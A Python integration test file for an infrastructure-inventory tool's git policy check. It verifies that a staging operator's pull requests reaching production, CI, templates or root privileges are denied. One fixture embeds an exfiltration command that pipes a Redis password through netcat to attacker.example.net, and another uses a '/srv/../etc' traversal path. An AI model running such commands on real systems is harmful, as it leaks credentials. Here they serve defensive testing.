"""Trust boundaries on a real git repository: pull requests by the staging operator (the
example policy's `operator`, bob) that try to reach production are denied, naming the
object, the environment reached and why; what the policy means to allow still passes."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from tests.integration.test_policy_git import ALICE, BOB, Repo
from tests.support import EXAMPLE_INVENTORY, REPO

Run = Callable[..., Result]

STAGING_COPY = """\
name: redis-copy
host: attacker.example.net
port: 6379
password:
  sops: secrets/redis-main.yaml
  key: password
environment: staging
"""
SHELL_APP = """\
name: Shell
slug: shell
runtime: command
command: sh -c 'echo $REDIS_PASSWORD | nc attacker.example.net 9'
environment: staging
allow_environments: [production]
directory: /srv/shell
connections:
  - connection: redis-main
    primary: true
workers:
  - name: run
    queues: [default]
    hosts: [worker-eu-1]
"""


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repo:
    """The example inventory and the repository's CI files, committed by the admin."""
    repo = Repo(tmp_path / "repo")
    shutil.copytree(EXAMPLE_INVENTORY, repo.path / "inventory")
    shutil.copytree(REPO / ".github", repo.path / ".github")
    shutil.copy(REPO / "action.yml", repo.path / "action.yml")
    repo.commit(ALICE, "Add the inventory and CI")
    repo.git("checkout", "-q", "-b", "change")
    monkeypatch.chdir(repo.path)
    monkeypatch.delenv("GITHUB_ACTOR", raising=False)
    return repo


def check(cli: Run, *extra: str, author: str = BOB[1]) -> Result:
    return cli("policy", "check", "--base", "main", "--author", author, *extra)


def denials(result: Result) -> list[str]:
    return [line for line in result.output.splitlines() if line.startswith("inventory/")]


def test_a_staging_connection_to_the_production_password_is_denied(repo: Repo,
                                                                   cli: Run) -> None:
    (repo.path / "inventory/connections/redis-copy.yaml").write_text(STAGING_COPY)
    result = check(cli)
    assert result.exit_code == 1
    assert denials(result) == [
        "inventory/connections/redis-copy.yaml:5:3: password: bob@example.com (role operator) "
        "may not change secrets of connection redis-main in environments production, staging "
        "(connection redis-copy refers to secrets/redis-main.yaml in password; production: "
        "secrets/redis-main.yaml is a secret of connection redis-main); allowed for: admin "
        "(operator may add/change/remove applications, connections, hosts, secrets, "
        "notifications in staging)"]
    # validate refuses it too, at the reference, naming both environments.
    validate = cli("validate", "inventory")
    assert validate.exit_code == 1
    assert ("inventory/connections/redis-copy.yaml:5:9: password.sops: secrets/redis-main.yaml "
            "is a secret of several environments (production: connection redis-main; "
            "staging: connection redis-copy); a secret file belongs to one environment"
            ) in validate.output


def test_a_staging_application_reaching_production_is_denied(repo: Repo, cli: Run) -> None:
    (repo.path / "inventory/applications/shell.yaml").write_text(SHELL_APP)
    result = check(cli)
    assert result.exit_code == 1
    (line,) = denials(result)
    assert line.startswith("inventory/applications/shell.yaml:2:7: bob@example.com (role "
                           "operator) may not add applications in environments production, "
                           "staging (production: ")
    assert "application shell lists it in allow_environments" in line
    assert line.endswith("; allowed for: admin (operator may add/change/remove applications, "
                         "connections, hosts, secrets, notifications in staging)")


def test_widening_an_existing_staging_application_is_denied(repo: Repo, cli: Run) -> None:
    repo.edit("inventory/applications/storefront.yaml", "hosts: [worker-staging-1]",
              "hosts: [worker-staging-1, worker-eu-1]")
    hosts_only = check(cli, "--format", "json")
    assert hosts_only.exit_code == 1
    (violation,) = json.loads(hosts_only.output)["violations"]
    assert violation["path"] == "workers[default].hosts"
    assert "in environments production, staging (production: worker group " \
        "storefront/default runs on host worker-eu-1)" in violation["message"]
    repo.edit("inventory/applications/storefront.yaml", "environment: staging",
              "environment: staging\nallow_environments: [production]")
    result = check(cli)
    assert result.exit_code == 1
    assert [d.split(": bob@")[0] for d in denials(result)] == [
        "inventory/applications/storefront.yaml:9:21: allow_environments",
        "inventory/applications/storefront.yaml:19:12: workers[default].hosts"]


def test_a_host_pulling_production_workers_is_denied(repo: Repo, cli: Run) -> None:
    # The admin lets search-indexer (production, host_labels role=batch) use staging hosts.
    repo.git("checkout", "-q", "main")
    repo.edit("inventory/applications/search-indexer.yaml", "environment: production",
              "environment: production\nallow_environments: [staging]")
    repo.commit(ALICE, "search-indexer may also run on staging hosts")
    repo.git("checkout", "-q", "change")
    repo.git("merge", "-q", "--ff-only", "main")
    repo.edit("inventory/hosts/worker-staging-1.yaml", "role: queue", "role: batch")
    result = check(cli)
    assert result.exit_code == 1
    assert denials(result) == [
        "inventory/hosts/worker-staging-1.yaml:6:9: labels.role: bob@example.com (role "
        "operator) may not change hosts in environments production, staging (production: its "
        "name or labels pull worker group search-indexer/indexing onto host "
        "worker-staging-1); allowed for: admin (operator may add/change/remove applications, "
        "connections, hosts, secrets, notifications in staging)"]
    repo.edit("inventory/hosts/worker-staging-1.yaml", "role: batch", "role: web")
    assert check(cli).exit_code == 0


def test_a_host_named_like_a_runner_label_is_refused(repo: Repo, cli: Run) -> None:
    shutil.copy(repo.path / "inventory/hosts/worker-staging-1.yaml",
                repo.path / "inventory/hosts/linux.yaml")
    repo.edit("inventory/hosts/linux.yaml", "name: worker-staging-1", "name: linux")
    validate = cli("validate", "inventory")
    assert validate.exit_code == 1
    assert "inventory/hosts/linux.yaml:2:7: name: host name 'linux' is a runner label " \
        "(GitHub's or hznctl's own)" in validate.output
    deploy = (repo.path / ".github/workflows/deploy.yml").read_text()
    assert 'runs-on: [self-hosted, hznctl, "hznctl-host-${{ matrix.host }}"]' in deploy


def test_changing_ci_or_templates_is_the_admins(repo: Repo, cli: Run) -> None:
    workflow = repo.path / ".github/workflows/validate.yml"
    workflow.write_text(workflow.read_text().replace("hznctl policy check", "true"))
    repo.edit("action.yml", "name: hznctl", "name: hznctl-but-not")
    (repo.path / "inventory/templates").mkdir()
    (repo.path / "inventory/templates/rq.conf.j2").write_text("[program:{{ group }}]\n")
    repo.commit(BOB, "Simplify CI")
    result = check(cli, "--format", "json")
    assert result.exit_code == 1
    messages = {v["file"]: v["message"] for v in json.loads(result.output)["violations"]}
    assert messages == {
        ".github/workflows/validate.yml": "bob@example.com (role operator) may not change CI "
        "(.github/workflows/validate.yml: workflows and the action run every check); "
        "allowed for: admin",
        "action.yml": "bob@example.com (role operator) may not change CI (action.yml: "
        "workflows and the action run every check); allowed for: admin",
        "inventory/templates/rq.conf.j2": "bob@example.com (role operator) may not add "
        "templates (admin only: they write every program file); allowed for: admin",
    }
    assert check(cli, author=ALICE[1]).exit_code == 0
    codeowners = cli("codeowners", "inventory", "--check")
    assert codeowners.exit_code == 0, codeowners.output
    owned = (REPO / ".github/CODEOWNERS").read_text().splitlines()
    for pattern in ("* ", "/.github/ ", "/action.yml ", "/inventory/templates/ ",
                    "/inventory/policy.yaml "):
        assert any(line.startswith(pattern) and "@bob" not in line for line in owned), pattern


def test_every_commit_author_must_be_allowed(repo: Repo, cli: Run) -> None:
    repo.edit("inventory/connections/redis-main.yaml", "port: 6379", "port: 6380")
    repo.commit(BOB, "Move redis-main")
    repo.edit("inventory/applications/storefront.yaml", "max_processes: 2", "max_processes: 3")
    repo.commit(ALICE, "Scale storefront")
    assert check(cli, author="@alice").exit_code == 0  # only who opened the pull request
    result = check(cli, "--every-commit-author", author="@alice")
    assert result.exit_code == 1
    assert denials(result) == [
        "inventory/connections/redis-main.yaml:5:7: port: bob@example.com (role operator) may "
        "not change connections in environment production; allowed for: admin (operator may "
        "add/change/remove applications, connections, hosts, secrets, notifications in "
        "staging)"]
    assert "with commits by alice@example.com, bob@example.com" in result.output


def test_privileges_and_least_privilege(repo: Repo, cli: Run) -> None:
    repo.edit("inventory/applications/storefront.yaml", "directory: /srv/storefront/current",
              "directory: /srv/../etc\nuser: root")
    validate = cli("validate", "inventory")
    assert validate.exit_code == 1
    assert "inventory/applications/storefront.yaml:9:12: directory: directory /srv/../etc " \
        "has a '..' part (write the folder it means) on host worker-staging-1" \
        in validate.output
    assert "inventory/applications/storefront.yaml:10:7: user: user root: workers run as " \
        "root on host worker-staging-1, whose privileges do not allow it" in validate.output
    # Granting it is the admin's, even on a host the operator owns.
    repo.edit("inventory/applications/storefront.yaml", "directory: /srv/../etc",
              "directory: /etc")
    with (repo.path / "inventory/hosts/worker-staging-1.yaml").open("a") as host:
        host.write("privileges:\n  root: true\n  paths: [/etc]\n")
    assert cli("validate", "inventory").exit_code == 0
    result = check(cli)
    assert result.exit_code == 1
    assert [d.split(": bob@")[0] for d in denials(result)] == [
        "inventory/hosts/worker-staging-1.yaml:10:3: privileges"]
    assert "may not change hosts' privileges (admin only: they grant more than least " \
        "privilege)" in denials(result)[0]
    assert check(cli, author=ALICE[1]).exit_code == 0


def test_what_the_policy_means_to_allow_still_passes(repo: Repo, cli: Run) -> None:
    repo.edit("inventory/applications/mailer.yaml", "max_processes: 3", "max_processes: 5")
    repo.edit("inventory/applications/reports.yaml", "queues: [exports-high, exports]",
              "queues: [exports-high, exports, exports-low]")
    repo.edit("inventory/applications/storefront.yaml", "max_processes: 2", "max_processes: 4")
    repo.edit("inventory/connections/redis-staging.yaml", "region: eu-west-1",
              "region: eu-west-2")
    repo.edit("inventory/hosts/worker-staging-1.yaml", "zone: eu-west-1a", "zone: eu-west-1b")
    repo.commit(BOB, "Operator's day")
    result = check(cli, "--every-commit-author", author="@bob")
    assert result.exit_code == 0, result.output
    assert "allowed: 5 change(s) by @bob (role operator) with commits by bob@example.com" \
        in result.output
